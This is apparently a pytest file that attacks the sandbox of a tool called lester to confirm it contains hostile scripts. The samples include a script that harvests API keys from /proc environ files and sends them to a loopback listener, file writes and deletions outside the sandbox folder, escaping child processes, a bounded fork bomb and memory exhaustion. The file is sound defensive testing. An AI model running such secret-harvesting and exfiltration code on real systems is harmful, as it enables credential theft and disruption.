"""The sandbox as an attacker meets it: scripts that try to steal a key, write outside their
folder, outlive the time limit, exhaust processes or memory, or outlive lester itself.

Every script here is run by the real sandbox (both the warm parent and fresh interpreters)
on a Linux machine; what it managed to do is read back through its prepared output.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest

from lester.rewrite.analysis import analyze_path
from lester.rewrite.sampling import SamplePlan
from lester.rewrite.sandbox import run_original

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the Linux sandbox")

KEY = "sk-attack-test-0123456789abcdef"


def _script(tmp_path: Path, body: str, name: str = "attack.py") -> Path:
    """A script whose findings (a dict named ``found``) become its prepared output."""
    path = tmp_path / name
    path.write_text(textwrap.dedent(body) + textwrap.dedent("""
        import pandas as pd
        prepared = pd.DataFrame({"what": list(found), "value": [str(v) for v in found.values()]})
        prepared.to_csv("prepared.csv", index=False)
    """))
    return path


def _run(script: Path, mode: str, monkeypatch, timeout: float = 30):
    monkeypatch.setenv("LESTER_SANDBOX", mode)
    outputs = run_original(script, analyze_path(script), SamplePlan([]), timeout=timeout)
    found = {} if outputs.prepared is None else dict(zip(outputs.prepared["what"], outputs.prepared["value"]))
    return outputs, found


def _processes_with(marker: str) -> list[str]:
    listing = subprocess.run(["ps", "-eo", "pid,args"], capture_output=True, text=True).stdout
    return [line for line in listing.splitlines() if marker in line and "ps -eo" not in line]


class _Listener:
    """A TCP server on the loopback that keeps whatever it is sent."""

    def __init__(self) -> None:
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen()
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received = b""
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(1)
                try:
                    self.received += connection.recv(65536)
                except OSError:
                    pass

    def close(self) -> None:
        self.running = False
        self.thread.join(timeout=2)
        self.server.close()


STEAL = """
    import os, socket, urllib.request
    found = {}
    loot = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                loot.append(open(f"/proc/{pid}/environ", "rb").read())
            except OSError:
                pass
    stolen = b"".join(loot)
    found["saw_key"] = b"OPENAI_API_KEY" in stolen
    found["pids_seen"] = sum(p.isdigit() for p in os.listdir("/proc"))
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
            s.sendall(b"KEYS:" + stolen)
        found["sent"] = "yes"
    except OSError as exc:
        found["sent"] = f"refused: {exc}"
    try:
        urllib.request.urlopen(f"http://127.0.0.1:{PORT}/?k=" + stolen.hex()[:200], timeout=2)
    except Exception as exc:
        found["http"] = type(exc).__name__
"""


@pytest.mark.parametrize("mode", ["warm", "cold"])
def test_a_key_read_through_proc_cannot_be_sent_anywhere(tmp_path, mode):
    # lester with the key in its initial environment (the kernel's copy in /proc/<pid>/environ)
    listener = _Listener()
    try:
        script = _script(tmp_path, STEAL.replace("PORT", str(listener.port)))
        driver = textwrap.dedent(f"""
            import json, sys
            from lester.rewrite.analysis import analyze_path
            from lester.rewrite.sampling import SamplePlan
            from lester.rewrite.sandbox import run_original
            out = run_original({str(script)!r}, analyze_path({str(script)!r}), SamplePlan([]), timeout=30)
            found = {{}} if out.prepared is None else dict(zip(out.prepared["what"], out.prepared["value"]))
            print(json.dumps({{"status": out.status, "found": found, "protections": out.protections}}))
        """)
        env = {**os.environ, "OPENAI_API_KEY": KEY, "LESTER_SANDBOX": mode}
        done = subprocess.run([sys.executable, "-c", driver], env=env, capture_output=True, text=True, timeout=120)
        assert done.returncode == 0, done.stderr[-2000:]
        report = json.loads(done.stdout.strip().splitlines()[-1])
    finally:
        listener.close()
    assert report["status"] == "ok", report
    assert KEY.encode() not in listener.received and listener.received == b""
    assert report["found"]["saw_key"] == "False"
    assert report["found"]["sent"].startswith("refused")
    assert report["protections"]["network"].startswith("on")
    assert report["protections"]["processes"].startswith("on")


@pytest.mark.parametrize("mode", ["warm", "cold"])
def test_a_write_outside_the_sandbox_folder_fails(tmp_path, monkeypatch, mode):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim.txt").write_text("keep me")
    script = _script(tmp_path, f"""
        import os
        found = {{}}
        target = os.path.join(*{list(outside.parts)!r})  # built at run time
        for what, act in [("write", lambda: open(os.path.join(target, "planted.txt"), "w").write("x")),
                          ("delete", lambda: os.remove(os.path.join(target, "victim.txt"))),
                          ("tmp", lambda: open("/tmp/lester-attack-planted.txt", "w").write("x")),
                          ("rename", lambda: os.rename(os.path.join(target, "victim.txt"), "stolen.txt"))]:
            try:
                act()
                found[what] = "done"
            except OSError as exc:
                found[what] = f"refused: {{exc.strerror}}"
    """)
    outputs, found = _run(script, mode, monkeypatch)
    assert outputs.status == "ok", outputs.describe_error()
    assert all(found[what].startswith("refused") for what in ("write", "delete", "tmp", "rename")), found
    assert not (outside / "planted.txt").exists() and (outside / "victim.txt").read_text() == "keep me"
    assert not Path("/tmp/lester-attack-planted.txt").exists()
    assert outputs.protections["filesystem"].startswith("on")


@pytest.mark.parametrize("mode", ["warm", "cold"])
def test_a_setsid_child_does_not_outlive_the_time_limit(tmp_path, monkeypatch, mode):
    marker = f"{os.getpid()}{len(mode)}.25"  # a number: sleep must accept it
    script = _script(tmp_path, f"""
        import subprocess, time
        subprocess.Popen(["sleep", "7{marker}"], start_new_session=True)
        subprocess.Popen(["sh", "-c", "setsid sleep 8{marker} &"])
        time.sleep(600)
        found = {{}}
    """)
    started = time.perf_counter()
    outputs, _ = _run(script, mode, monkeypatch, timeout=4)
    assert outputs.status == "timeout"
    assert time.perf_counter() - started < 20
    time.sleep(0.5)
    assert _processes_with(marker) == []


@pytest.mark.parametrize("mode", ["warm", "cold"])
def test_a_fork_bomb_is_contained(tmp_path, monkeypatch, mode):
    # bounded so that it cannot hurt a machine without the sandbox: 2,000 sleeping processes
    marker = f"{os.getpid()}{len(mode)}.5"
    script = _script(tmp_path, f"""
        import os, subprocess
        found = {{}}
        started = 0
        for _ in range(2000):
            try:
                subprocess.Popen(["sleep", "3{marker}"])
                started += 1
            except OSError as exc:
                found["stopped"] = exc.strerror
                break
        found["started"] = started
    """)
    outputs, found = _run(script, mode, monkeypatch, timeout=60)
    assert outputs.status == "ok", outputs.describe_error()
    assert int(found["started"]) < 600 and "stopped" in found, found
    assert outputs.protections["process_count"].startswith("on")
    time.sleep(0.5)
    assert _processes_with(marker) == []  # the namespace went with its init


@pytest.mark.parametrize("mode", ["warm", "cold"])
def test_a_huge_allocation_is_a_clear_memory_error(tmp_path, monkeypatch, mode):
    script = tmp_path / "hog.py"
    script.write_text("import numpy as np\nhog = np.ones(30 * 2**30 // 8)\n")
    outputs, _ = _run(script, mode, monkeypatch)
    assert outputs.status == "error"
    assert outputs.error["type"] == "MemoryError"
    assert "LESTER_SANDBOX_MEMORY" in outputs.describe_error()
    assert outputs.protections["memory"].startswith("on")


@pytest.mark.parametrize("mode", ["warm", "cold"])
def test_six_gigabytes_touched_are_refused(tmp_path, monkeypatch, mode):
    # what a machine without the limit would give (24 GiB here): memory actually written
    script = tmp_path / "toucher.py"
    script.write_text("chunks = [bytearray(2**30) for _ in range(6)]\n")
    outputs, _ = _run(script, mode, monkeypatch)
    assert outputs.status == "error" and outputs.error["type"] == "MemoryError", outputs.describe_error()


def _lester_mid_rewrite(tmp_path: Path, mode: str, marker: str) -> subprocess.Popen:
    script = _script(tmp_path, f"""
        import subprocess, time
        subprocess.Popen(["sleep", "9{marker}"], start_new_session=True)
        time.sleep(600)
        found = {{}}
    """)
    driver = textwrap.dedent(f"""
        from lester.rewrite.analysis import analyze_path
        from lester.rewrite.sampling import SamplePlan
        from lester.rewrite.sandbox import run_original
        run_original({str(script)!r}, analyze_path({str(script)!r}), SamplePlan([]), timeout=300)
    """)
    temp = tmp_path / "temp"
    temp.mkdir()
    env = {**os.environ, "LESTER_SANDBOX": mode, "TMPDIR": str(temp)}
    process = subprocess.Popen([sys.executable, "-c", driver], env=env)
    deadline = time.monotonic() + 60
    while not _processes_with(marker) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert _processes_with(marker), "the sandboxed script never started"
    return process


@pytest.mark.parametrize("how", [signal.SIGKILL, signal.SIGTERM, signal.SIGINT])
@pytest.mark.parametrize("mode", ["warm", "cold"])
def test_lester_killed_mid_run_leaves_no_process_and_no_folder(tmp_path, mode, how):
    marker = f"{os.getpid()}{len(mode)}{int(how)}.75"
    lester = _lester_mid_rewrite(tmp_path, mode, marker)
    lester.send_signal(how)
    lester.wait(timeout=30)
    deadline = time.monotonic() + 10
    while (_processes_with(marker) or list((tmp_path / "temp").iterdir())) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert _processes_with(marker) == []
    assert list((tmp_path / "temp").iterdir()) == []  # no folder of sample data left behind


def test_ctrl_c_stops_lester_rewrite_at_once(tmp_path):
    # the rewrite runs the script and the first candidate side by side; Ctrl-C ends both
    marker = f"{os.getpid()}9.125"
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "slow.py").write_text(textwrap.dedent(f"""
        import subprocess, time
        import pandas as pd
        subprocess.Popen(["sleep", "1{marker}"], start_new_session=True)
        time.sleep(600)
        prepared = pd.DataFrame({{"a": [1]}})
        prepared.to_csv("prepared.csv", index=False)
    """))
    temp = tmp_path / "temp"
    temp.mkdir()
    env = {**os.environ, "TMPDIR": str(temp)}
    lester = subprocess.Popen([sys.executable, "-m", "lester.cli", "rewrite", "slow.py", "--timeout", "300"],
                              cwd=folder, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    deadline = time.monotonic() + 90
    while not _processes_with(marker) and time.monotonic() < deadline and lester.poll() is None:
        time.sleep(0.2)
    assert _processes_with(marker), lester.communicate()[0] if lester.poll() is not None else "never started"
    interrupted = time.monotonic()
    lester.send_signal(signal.SIGINT)
    output, _ = lester.communicate(timeout=30)
    assert time.monotonic() - interrupted < 15
    assert lester.returncode == 130, output
    assert "interrupted" in output and "Traceback" not in output
    time.sleep(0.5)
    assert _processes_with(marker) == []
    assert list(temp.iterdir()) == []
    assert not (folder / "pipeline.py").exists()
